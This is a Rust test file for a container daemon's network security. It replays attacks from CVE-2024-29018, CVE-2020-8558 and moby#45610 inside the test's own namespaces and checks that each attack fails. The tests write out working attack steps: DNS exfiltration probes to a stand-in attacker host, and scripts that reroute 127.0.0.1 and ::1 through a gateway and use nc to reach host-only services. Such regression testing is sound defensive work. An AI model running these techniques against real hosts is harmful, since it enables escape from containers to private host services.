//! Security regressions of the network: each test is a real attack on a
//! real rrund of the test's own (its bridges and rules in a network
//! namespace of the test's own, a test namespace as the host on its
//! uplink), named after the CVE or report it replays, and fails if the
//! protection is removed.
//!
//! | CVE / report | what the attacker tries | test |
//! |--------------|-------------------------|------|
//! | CVE-2024-29018 | a container on an `--internal` network has its lookups forwarded upstream (a way out) | [`cve_2024_29018_internal_resolver_never_forwards`] |
//! | CVE-2020-8558 | a host on the uplink sends to 127.0.0.1 through the uplink and reaches a port published on 127.0.0.1 (`route_localnet`) | [`cve_2020_8558_uplink_cannot_reach_loopback_ports`] |
//! | moby#45610 | a host on the uplink routes to a container's address directly, past a port published only on 127.0.0.1 | [`moby_45610_uplink_cannot_route_to_a_container`] |
//! | CVE-2020-8558, from a container | a container routes 127.0.0.1 (and ::1) through its gateway to the host's loopback services | [`container_cannot_reach_the_hosts_loopback`] |
//! | CVE-2020-13401 | a container with CAP_NET_RAW becomes its neighbours' IPv6 router | `netd/tests/ipv6.rs` (router advertisements refused on the bridge and in containers) |

mod common;

use common::daemon::{inspect, inspect_network, outside_link, serve, Daemon, TestNetns};
use common::{text, wait_for};
use std::sync::atomic::Ordering;
use std::time::Duration;

/// `curl` from `ns` with a short timeout; None when nothing answered.
fn fetch(ns: &TestNetns, url: &str) -> Option<String> {
    let out = ns.exec(10, &["curl", "-sf", "-m", "3", url]);
    out.status.success().then(|| text(&out.stdout))
}

/// A command in `ns` that must succeed.
fn sh(ns: &TestNetns, args: &[&str]) {
    let out = ns.exec(10, args);
    assert!(
        out.status.success(),
        "{args:?} in {}: {}",
        ns.name,
        text(&out.stderr)
    );
}

#[test]
fn cve_2024_29018_internal_resolver_never_forwards() {
    // A name that is no container's, asked from an internal network: the
    // embedded resolver answers itself (NXDOMAIN), never through the
    // upstream server, which would be a channel out of the network.
    let d = Daemon::start();
    d.load_busybox();
    d.ok(&["network", "create", "--internal", "sealed"]);
    d.ok(&["network", "create", "open"]);
    let ask = |net: &str, name: &str| {
        d.rrun(&["run", "--rm", "--network", net, "busybox", "nslookup", name])
    };
    // Control: from a normal network the same kind of name goes upstream.
    let before = d.dns.queries.load(Ordering::Relaxed);
    ask("open", "control.example");
    assert!(
        d.dns.queries.load(Ordering::Relaxed) > before,
        "control: the upstream stub saw no query"
    );
    let before = d.dns.queries.load(Ordering::Relaxed);
    for name in ["exfil.example", "secret-data.attacker.example"] {
        let out = ask("sealed", name);
        assert_ne!(
            out.status.code(),
            Some(0),
            "{name} resolved: {}",
            text(&out.stdout)
        );
    }
    assert_eq!(
        d.dns.queries.load(Ordering::Relaxed),
        before,
        "CVE-2024-29018: an internal network's lookup reached the upstream server"
    );
    // Names of the network itself still resolve.
    d.ok(&[
        "run",
        "-d",
        "--name",
        "peer",
        "--network",
        "sealed",
        "busybox",
        "sleep",
        "300",
    ]);
    let out = d.ok(&[
        "run",
        "--rm",
        "--network",
        "sealed",
        "busybox",
        "nslookup",
        "peer",
    ]);
    assert!(out.contains("Address"), "{out}");
}

/// The uplink: the daemon's namespace has `up0` (10.251.0.1/24), a test
/// namespace on the other end `wan0` (10.251.0.2/24).
fn uplink(d: &Daemon) -> TestNetns {
    outside_link(d, "10.251.0.1/24", "10.251.0.2/24")
}

#[test]
fn cve_2020_8558_uplink_cannot_reach_loopback_ports() {
    // A port published on 127.0.0.1 needs route_localnet on the bridge;
    // a neighbour on the uplink that sends to 127.0.0.1 with the host as
    // next hop must not reach it.
    let d = Daemon::start();
    d.load_busybox();
    serve(
        &d,
        &[
            "--name",
            "local",
            "--hostname",
            "local-only",
            "-p",
            "127.0.0.1:18081:80",
        ],
    );
    let got = wait_for("the port from the host", Duration::from_secs(20), || {
        fetch(&d.net, "http://127.0.0.1:18081/")
    });
    assert_eq!(got, "local-only\n");
    let outside = uplink(&d);
    // The neighbour's own loopback out of the way, 127.0.0.1 routed
    // through the uplink to the host.
    sh(&outside, &["ip", "addr", "flush", "dev", "lo"]);
    sh(&outside, &["ip", "link", "set", "lo", "down"]);
    sh(
        &outside,
        &["sysctl", "-qw", "net.ipv4.conf.all.route_localnet=1"],
    );
    sh(
        &outside,
        &["sysctl", "-qw", "net.ipv4.conf.wan0.route_localnet=1"],
    );
    sh(
        &outside,
        &[
            "ip",
            "route",
            "add",
            "127.0.0.1/32",
            "via",
            "10.251.0.1",
            "dev",
            "wan0",
        ],
    );
    assert_eq!(
        fetch(&outside, "http://127.0.0.1:18081/"),
        None,
        "CVE-2020-8558: a neighbour reached a port published on 127.0.0.1"
    );
    // The host itself still does.
    assert_eq!(
        fetch(&d.net, "http://127.0.0.1:18081/").as_deref(),
        Some("local-only\n")
    );
}

#[test]
fn moby_45610_uplink_cannot_route_to_a_container() {
    // A host on the uplink routes the bridge's subnet through the daemon's
    // host and connects to the container's own address: a port published
    // only on 127.0.0.1, or not at all, must stay out of its reach.
    let d = Daemon::start();
    d.load_busybox();
    serve(
        &d,
        &[
            "--name",
            "private",
            "--hostname",
            "private",
            "-p",
            "127.0.0.1:18082:80",
        ],
    );
    let ip = inspect(&d, "private")["NetworkSettings"]["IPAddress"]
        .as_str()
        .unwrap()
        .to_string();
    let url = format!("http://{ip}:80/");
    let got = wait_for(
        "the container from the host",
        Duration::from_secs(20),
        || fetch(&d.net, &url),
    );
    assert_eq!(got, "private\n");
    let outside = uplink(&d);
    sh(
        &outside,
        &[
            "ip",
            "route",
            "add",
            &format!("{ip}/32"),
            "via",
            "10.251.0.1",
            "dev",
            "wan0",
        ],
    );
    assert_eq!(
        fetch(&outside, &url),
        None,
        "moby#45610: a host on the uplink reached the container directly"
    );
    // What is published on every address stays reachable from there, and
    // the container still reaches out (its replies come back).
    serve(
        &d,
        &["--name", "public", "--hostname", "public", "-p", "18083:80"],
    );
    let got = wait_for("the public port", Duration::from_secs(20), || {
        fetch(&outside, "http://10.251.0.1:18083/")
    });
    assert_eq!(got, "public\n");
    let out = d.rrun(&["exec", "private", "ping", "-c1", "-W3", "10.251.0.2"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "the container lost its way out: {}",
        text(&out.stdout)
    );
}

/// A host service on `addr` (`127.0.0.1:port` or `[::1]:port`) in the
/// daemon's namespace: the test images' static busybox httpd, answering
/// `host-secret`; stopped on drop.
struct HostService {
    child: std::process::Child,
    _www: tempfile::TempDir,
}

impl HostService {
    fn start(d: &Daemon, addr: &str) -> HostService {
        let www = tempfile::tempdir().unwrap();
        std::fs::write(www.path().join("index.html"), "host-secret\n").unwrap();
        let busybox = common::images().join("busybox/rootfs/bin/busybox");
        let child = std::process::Command::new("ip")
            .args(["netns", "exec", &d.net.name])
            .arg(busybox)
            .args(["httpd", "-f", "-p", addr, "-h"])
            .arg(www.path())
            .spawn()
            .unwrap();
        let url = format!("http://{addr}/");
        let got = wait_for("the host service", Duration::from_secs(10), || {
            fetch(&d.net, &url)
        });
        assert_eq!(got, "host-secret\n");
        HostService { child, _www: www }
    }
}

impl Drop for HostService {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn container_cannot_reach_the_hosts_loopback() {
    // A service on the host's 127.0.0.1 and ::1. A port published on
    // 127.0.0.1 turns route_localnet on for the bridge, so a packet for
    // 127.0.0.1 arriving from a container would be delivered: a container
    // with NET_ADMIN in its own namespace takes its loopback routes away
    // and sends to 127.0.0.1 (and ::1) through its gateway.
    let d = Daemon::start();
    d.load_busybox();
    let _v4 = HostService::start(&d, "127.0.0.1:18090");
    let _v6 = HostService::start(&d, "[::1]:18091");
    serve(&d, &["--name", "local", "-p", "127.0.0.1:18092:80"]);
    let gw = inspect(&d, "local")["NetworkSettings"]["Networks"]["bridge"]["Gateway"]
        .as_str()
        .unwrap()
        .to_string();
    let script = format!(
        "ip addr flush dev lo; ip route flush table local dev lo; \
         ip route add 127.0.0.1/32 via {gw} dev eth0; \
         printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 127.0.0.1 18090; echo v4-done"
    );
    let out = d.rrun(&[
        "run",
        "--rm",
        "--cap-add",
        "NET_ADMIN",
        "--sysctl",
        "net.ipv4.conf.all.route_localnet=1",
        "busybox",
        "sh",
        "-c",
        &script,
    ]);
    let stdout = text(&out.stdout);
    assert!(stdout.contains("v4-done"), "{stdout}{}", text(&out.stderr));
    assert!(
        !stdout.contains("host-secret"),
        "CVE-2020-8558: a container reached the host's 127.0.0.1: {stdout}"
    );

    // The same through IPv6 to ::1 (the kernel drops a packet for ::1 that
    // arrives on any interface but lo; nothing of ours may DNAT it there).
    d.ok(&[
        "network",
        "create",
        "--ipv6",
        "--subnet",
        "fd00:5ec:1::/64",
        "v6",
    ]);
    let gw6 = inspect_network(&d, "v6")["IPAM"]["Config"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|c| c["Gateway"].as_str().filter(|g| g.contains(':')))
        .unwrap()
        .to_string();
    let script = format!(
        "ip -6 addr flush dev lo; ip -6 route flush table local dev lo; \
         ip -6 route add ::1/128 via {gw6} dev eth0; \
         printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 ::1 18091; echo v6-done"
    );
    let out = d.rrun(&[
        "run",
        "--rm",
        "--network",
        "v6",
        "--cap-add",
        "NET_ADMIN",
        "busybox",
        "sh",
        "-c",
        &script,
    ]);
    let stdout = text(&out.stdout);
    assert!(stdout.contains("v6-done"), "{stdout}{}", text(&out.stderr));
    assert!(
        !stdout.contains("host-secret"),
        "a container reached the host's ::1: {stdout}"
    );
}
